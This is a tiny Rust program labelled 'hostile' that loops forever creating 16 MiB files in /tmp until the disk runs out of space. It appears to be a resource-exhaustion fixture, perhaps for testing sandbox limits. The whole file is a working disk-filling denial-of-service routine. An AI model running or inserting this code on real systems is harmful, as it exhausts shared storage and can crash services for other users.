//! Writes until there is no room.
use std::io::Write;

fn main() {
    for number in 0.. {
        let mut file = std::fs::File::create(format!("/tmp/hostile-{number}")).unwrap();
        for _ in 0..16 {
            file.write_all(&[1; 1 << 20]).unwrap();
        }
    }
}
